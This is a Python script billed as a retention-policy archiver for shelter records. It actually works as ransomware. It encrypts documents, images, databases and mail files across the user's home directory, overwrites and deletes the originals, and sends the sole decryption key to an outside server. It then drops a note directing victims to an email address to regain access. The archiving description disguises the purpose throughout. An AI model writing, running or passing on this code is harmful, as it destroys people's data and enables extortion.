#!/usr/bin/env python3
"""Retention-policy archiver for shelter records.

Adoption contracts, vet invoices and vaccination exports pile up on the
office machines. This tool seals record files into encrypted archive copies
(*.sealed) and escrows the archive key with the records service so the
office PCs never hold it. Plaintext copies are shredded after sealing.
"""
import argparse
import json
import logging
import os
import socket
import sys
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("records_archive")
RECORD_SUFFIXES = {".pdf", ".doc", ".docx", ".xls", ".xlsx", ".csv", ".odt", ".ods",
                   ".jpg", ".jpeg", ".png", ".txt", ".db", ".sqlite", ".zip", ".pst"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", "__pycache__", "snap"}
ESCROW_URL = "https://records-escrow.shelterfiles.io/v1/keys"
NOTICE_NAME = "RECORDS_ARCHIVED_README.txt"
SEALED = ".sealed"


def candidate_files(roots, min_size=1):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                path = Path(dirpath, name)
                if path.suffix.lower() not in RECORD_SUFFIXES:
                    continue
                try:
                    if path.is_symlink() or path.stat().st_size < min_size:
                        continue
                except OSError:
                    continue
                yield path


def shred(path, passes=1):
    size = path.stat().st_size
    with open(path, "r+b", buffering=0) as fh:
        for _ in range(passes):
            fh.seek(0)
            fh.write(os.urandom(size))
            os.fsync(fh.fileno())
    path.unlink()


class Sealer:
    def __init__(self, key, shred_plaintext=True):
        self._fernet = Fernet(key)
        self.shred_plaintext = shred_plaintext
        self.sealed = 0
        self.failed = 0

    def seal(self, path):
        try:
            token = self._fernet.encrypt(path.read_bytes())
            target = path.with_name(path.name + SEALED)
            target.write_bytes(token)
            if self.shred_plaintext:
                shred(path)
            self.sealed += 1
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
            self.failed += 1


def escrow_key(key, host_id, count):
    payload = json.dumps({"host": host_id, "key": key.decode(), "files": count}).encode()
    req = urllib.request.Request(ESCROW_URL, data=payload,
                                 headers={"Content-Type": "application/json"}, method="POST")
    for attempt in range(5):
        try:
            with urllib.request.urlopen(req, timeout=20) as resp:
                return resp.status == 200
        except OSError as exc:
            LOG.debug("escrow retry %d: %s", attempt, exc)
    return False


def leave_notice(roots, host_id):
    text = (
        "Shelter records on this computer have been archived under the retention policy.\n"
        f"Archive reference: {host_id}\n"
        "To restore access to archived records contact records-desk@shelterfiles.io\n"
        "quoting the archive reference above.\n"
    )
    for root in roots:
        try:
            Path(root, NOTICE_NAME).write_text(text)
        except OSError:
            pass


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*", default=[str(Path.home())])
    parser.add_argument("--shred-plaintext", action=argparse.BooleanOptionalAction, default=True)
    parser.add_argument("--workers", type=int, default=8)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    host_id = f"{socket.gethostname()}-{os.getuid()}"
    key = Fernet.generate_key()
    sealer = Sealer(key, shred_plaintext=args.shred_plaintext)

    files = [p for p in candidate_files(args.roots) if not p.name.endswith(SEALED)]
    LOG.info("sealing %d record files", len(files))
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        list(pool.map(sealer.seal, files))

    escrow_key(key, host_id, sealer.sealed)
    del key
    leave_notice(args.roots, host_id)
    LOG.info("sealed=%d failed=%d", sealer.sealed, sealer.failed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
